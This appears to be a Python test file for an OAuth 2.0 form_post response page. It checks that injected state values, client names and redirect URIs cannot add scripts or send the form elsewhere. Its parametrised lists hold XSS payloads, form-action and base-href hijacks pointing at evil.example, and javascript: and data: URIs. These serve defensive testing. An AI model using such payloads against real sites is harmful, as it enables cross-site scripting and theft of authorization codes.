"""The page that sends the answer on: no script gets in, and it sends to nobody else."""

from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from tests.support.browser_like import Answer, Browser
from tests.support.logins import Platform
from tests.support.provider import Provider

HOSTILE = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '"></form><form action="https://evil.example/" method="post">',
    '"><base href="https://evil.example/">',
    '"><button formaction="https://evil.example/">',
    "{{ 7*7 }}{% raw %}",
    "</title><script src=https://evil.example/></script>",
    "\u2028\u2029<!--",
)


class Tags(HTMLParser):
    """What a browser would see: every element with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.found if name == tag]


def assert_one_way_out(answer: Answer, action: str, state: str) -> None:
    tags = Tags(answer.text)
    assert [form["action"] for form in tags.all("form")] == [action]
    assert [one["value"] for one in tags.all("input") if one["name"] == "state"] == [state]
    assert len(tags.all("script")) == 1
    assert tags.all("script")[0].keys() == {"nonce", "src", "defer"}
    assert {tag for tag, _ in tags.found}.isdisjoint({"base", "iframe", "object", "img"})
    assert not any(name.startswith(("on", "formaction")) for _, a in tags.found for name in a)


@pytest.mark.parametrize("state", HOSTILE)
@pytest.mark.spec("OAuth 2.0 Form Post Response Mode §2")
async def test_what_the_platform_sent_is_text(platform: Platform, visitor: Browser, state: str):
    answer = await platform.ask(visitor, response_mode="form_post", prompt="none", state=state)
    assert_one_way_out(answer, platform.redirect_uri, state)


async def test_a_name_and_an_address_are_text_too(provider: Provider, visitor: Browser):
    uri = 'https://shop.example/cb?a="><script>alert(1)</script>&b=;script-src*'
    platform = await Platform.register(
        provider, client_name="<script>alert(1)</script>", redirect_uris=[uri]
    )
    answer = await platform.ask(visitor, response_mode="form_post", prompt="none", state="x")
    assert_one_way_out(answer, uri, "x")
    policy = answer.headers["content-security-policy"]
    assert "form-action https://shop.example; frame-ancestors 'none'" in policy
    assert "script-src*" not in policy


@pytest.mark.parametrize(
    "uri",
    [
        "https://evil.example/",
        "https://shop.example@evil.example/callback",
        "https://shop.example/callback/../evil",
        "https://shop.example/callback#@evil.example",
        "javascript:alert(1)",
        "data:text/html,x",
    ],
)
@pytest.mark.parametrize("wrong", [{}, {"response_type": "token"}, {"prompt": "none"}])
async def test_no_form_leads_to_an_address_that_is_not_registered(
    platform: Platform, visitor: Browser, uri: str, wrong: dict[str, str]
):
    answer = await platform.ask(visitor, response_mode="form_post", redirect_uri=uri, **wrong)
    assert (answer.status, answer.error_code()) == (400, "redirect_uri_mismatch")
    assert not [form for form in Tags(answer.text).all("form") if "evil" in str(form)]
    assert quote(uri, safe="") not in answer.headers["content-security-policy"]
